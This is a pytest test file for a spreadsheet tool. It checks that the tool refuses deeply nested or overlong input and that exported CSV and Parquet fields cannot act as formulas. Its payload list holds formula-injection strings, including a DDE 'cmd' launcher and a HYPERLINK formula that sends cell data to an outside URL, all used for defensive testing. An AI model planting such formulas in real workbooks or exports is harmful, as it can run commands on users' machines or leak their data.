"""What hostile hands lay out beside the workbooks, and type for other programs."""

from __future__ import annotations

import csv
import io
import os
import re
import tempfile
from pathlib import Path
from typing import Any

import pytest
from submissions import sent, together
from tables import checked, write

from xltools.cli import cli
from xltools.cli.shared.call_mistakes import sentence_of
from xltools.cli.shared.run_language import choose
from xltools.definition import load_catalog
from xltools.errors import DefinitionError
from xltools.expressions import ExpressionError, Scope, parse
from xltools.ground.shipped import shipped

EXPANSION = shipped("templates") / "expansion.toml"
DEEP = {
    "lists": f"x = {'[' * 50_000}{']' * 50_000}\n",
    "tables": f"x = {'{a=' * 50_000}1{'}' * 50_000}\n",
    "names": f"a{'.a' * 50_000} = 1\n",
}
LONG = {
    "brackets": "(" * 50_000 + "1" + ")" * 50_000,
    "signs": "-" * 50_000 + "1 > 0",
    "denials": "not " * 900 + "blank(issue)",
    "sums": "+".join("1" * 50_000) + " > 0",
    "digits": "9" * 50_000 + " > 0",
}


@pytest.mark.parametrize("case", DEEP)
def test_a_definition_without_end_is_refused(case: str, tmp_path: Path) -> None:
    (tmp_path / "expansion.toml").write_text(DEEP[case] + EXPANSION.read_text("utf-8"), "utf-8")
    with pytest.raises(DefinitionError) as told:
        load_catalog(tmp_path)
    assert told.value.key == "errors.definition.nested"


@pytest.mark.parametrize("case", LONG)
def test_an_expression_without_end_is_refused_and_not_echoed_whole(case: str) -> None:
    catalog = load_catalog()
    expansion = catalog["expansion"]
    scope = Scope.of(catalog, expansion, expansion.sheet("tracking"))
    with pytest.raises(ExpressionError) as told:
        parse(LONG[case], scope)
    for lang in ("zh", "en"):
        choose(["--lang", lang])
        assert len(sentence_of(told.value)) < 500
    choose([])


def test_the_log_of_a_mistake_is_the_users_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    def stop(*_: object, **__: object) -> None:
        raise AssertionError("a mistake of ours")

    monkeypatch.setattr("xltools.verbs.start", stop)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    for _ in range(2):
        with pytest.raises(SystemExit) as left:
            cli.main(["describe", "--lang", "en"])
        assert left.value.code == 70
    assert str(tmp_path) in capfd.readouterr().err
    logs = list(tmp_path.iterdir())
    assert len(logs) == 2
    for log in logs:
        assert re.fullmatch(r"xltools-\d{8}-\d{6}-\w{8}\.log", log.name)
        assert "a mistake of ours" in log.read_text("utf-8")
        if os.name == "posix":
            assert log.stat().st_mode & 0o777 == 0o600


PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\t=1+1",
    "\n=1+1",
)
IN_A_TABLE = [one for one in PAYLOADS if "|" not in one]  # which would end a cell of ours


@pytest.fixture
def typed(tmp_path: Path) -> Path:
    """A workbook in which every goal's priority, which must be a choice, is a formula's text."""
    rows = "\n".join(f"| 销售 | 目标{n} | '{one} |" for n, one in enumerate(IN_A_TABLE))
    head = "| 销售总目标 | 市场支撑目标 | 优先级 |"
    name = "=1+1-目标管理-2024Q3.xlsx"
    table = f"{head}\n{rows}".replace("\n=1+1", "\\n=1+1")
    return write(tmp_path / name, {"目标对齐": table})


def test_no_field_of_a_csv_file_is_a_formula(typed: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(typed.parent)
    text = checked(Path(typed.name)).csv("zh")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    values = [row[6].lstrip("'").strip() for row in rows[1:] if row[5] == "cell-choice"]
    assert {one.strip() for one in IN_A_TABLE} <= set(values)
    for field in (field for row in rows for field in row):
        assert not re.match(r"\s*[=+\-@＝＋－＠]", field), field


def test_parquet_holds_what_was_typed_as_text(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    import pyarrow.parquet

    from xltools.consolidate.write.consolidated_workbook import write_consolidated

    goals: list[Any] = [{"supporting_goal": one, "sales_goal": one} for one in PAYLOADS]
    found = together([sent("goals", "=1+1", {"alignment": goals})])
    write_consolidated(found, tmp_path / "all.xlsx", parquet=tmp_path / "tables")
    table = pyarrow.parquet.read_table(tmp_path / "tables" / "goals.alignment.parquet")
    assert table.column("supporting_goal").to_pylist() == list(PAYLOADS)
    assert table.column("_team").to_pylist() == ["=1+1"] * len(PAYLOADS)
    for name in ("supporting_goal", "sales_goal", "_team", "_file"):
        assert str(table.schema.field(name).type) in ("string", "large_string")
